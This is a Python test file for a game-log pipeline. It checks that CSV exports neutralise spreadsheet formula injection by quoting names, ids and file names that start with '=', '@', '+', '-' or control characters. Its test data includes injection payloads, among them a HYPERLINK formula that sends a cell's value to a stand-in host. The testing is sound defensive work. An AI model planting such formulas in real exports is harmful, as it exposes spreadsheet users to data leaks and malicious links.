"""CSV output that a spreadsheet cannot be made to run (pipeline/cli/csv_cells.py).

Names come from logs written by others: a player called `=HYPERLINK(...)` or `@SUM(...)`
must reach a spreadsheet as text. Every CSV writer (audit, stats, games, players,
findings, sql) defuses such a cell with a leading `'` by default; `--exact-csv` writes the
text as logged.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pyarrow as pa
import pytest

from pipeline.cli.csv_cells import defused, defused_table
from pipeline.ingest import ingest
from tests.dataset_helpers import farkle, no_traceback

EVIL = ['=HYPERLINK("http://x.example/?"&A1,"click")', "=1+2", "@SUM(A1:A9)", "+cmd", "-2+3", "\tTAB", "\rCR"]
PLAYERS = ["=1+2", "@SUM(A1:A9)"]
GAME = '=HYPERLINK("http://x.example","g")'


@pytest.mark.parametrize("text", EVIL)
def test_a_cell_that_starts_like_a_formula_gets_a_quote(text):
    assert defused(text) == "'" + text


@pytest.mark.parametrize("value", ["ana", "s1-g000003", "a=b", " =x", "", None, -50, 3.5, True])
def test_other_cells_and_numbers_are_left_alone(value):
    assert defused(value) == value


def test_defused_table_handles_text_dictionaries_and_nulls_and_leaves_numbers():
    table = pa.table(
        {
            "name": pa.array(["=1+2", "ana", None]),
            "code": pa.array(["@x", "ok", "-y"]).dictionary_encode(),
            "points": pa.array([-50, 1, None]),
        }
    )
    out = defused_table(table)
    assert out.column("name").to_pylist() == ["'=1+2", "ana", None]
    assert out.column("code").to_pylist() == ["'@x", "ok", "'-y"]
    assert out.column("points").to_pylist() == [-50, 1, None]


def rows(proc) -> list[dict[str, str]]:
    no_traceback(proc)
    return list(csv.DictReader(io.StringIO(proc.stdout.decode("utf-8"))))


@pytest.fixture(scope="module")
def evil_log(tmp_path_factory) -> Path:
    """One game of two players with formula names under a formula game id; a wrong claim
    (so there is a finding naming a player), then a farkle."""
    root = tmp_path_factory.mktemp("evil")
    a, b = PLAYERS
    events = [
        {"game_id": GAME, "seq": 1, "type": "game_start", "players": PLAYERS},
        {"game_id": GAME, "seq": 2, "type": "roll", "player": a, "dice": [1, 5, 2, 3, 4, 6]},
        {"game_id": GAME, "seq": 3, "type": "keep", "player": a, "dice": [1], "points": 1000},
        {"game_id": GAME, "seq": 4, "type": "bank", "player": a, "points": 1000, "total": 1000},
        {"game_id": GAME, "seq": 5, "type": "roll", "player": b, "dice": [2, 2, 3, 3, 4, 6]},
        {"game_id": GAME, "seq": 6, "type": "farkle", "player": b},
    ]
    log = root / "=evil.jsonl"
    log.write_text("".join(json.dumps(e) + "\n" for e in events))
    ingest([str(log)], root / "ds")
    return log


def test_audit_csv_defuses_names_ids_and_file_names(evil_log):
    found = rows(farkle("audit", evil_log, "-f", "csv"))
    assert found, "the wrong claim is a finding"
    for row in found:
        assert row["game_id"] == "'" + GAME
        assert row["file"].startswith(str(evil_log.parent))  # the path starts with /: left alone
        if row["player"]:
            assert row["player"] in {"'" + p for p in PLAYERS}
    exact = rows(farkle("audit", evil_log, "-f", "csv", "--exact-csv"))
    assert {r["game_id"] for r in exact} == {GAME}
    assert {r["player"] for r in exact} - {""} <= set(PLAYERS)
    relative = rows(farkle("audit", evil_log.name, "-f", "csv", cwd=evil_log.parent))
    assert {r["file"] for r in relative} == {"'=evil.jsonl"}


@pytest.mark.parametrize(
    "command, column",
    [
        (["stats", "-s", "player_summary"], "player"),
        (["games"], "game_id"),
        (["players"], "player"),
        (["findings"], "game_id"),
        (["sql", "select player from game_players order by player"], "player"),
    ],
)
def test_every_csv_of_a_dataset_defuses_and_exact_csv_keeps_the_text(evil_log, command, column):
    ds = evil_log.parent / "ds"
    safe = rows(farkle(command[0], ds, *command[1:], "-f", "csv"))
    exact = rows(farkle(command[0], ds, *command[1:], "-f", "csv", "--exact-csv"))
    assert safe and len(safe) == len(exact)
    named = [(s, e) for s, e in zip(safe, exact) if e[column]]  # stats has overall rows, no player
    assert named
    for s, e in named:
        assert s[column] == "'" + e[column] and e[column] in PLAYERS + [GAME]
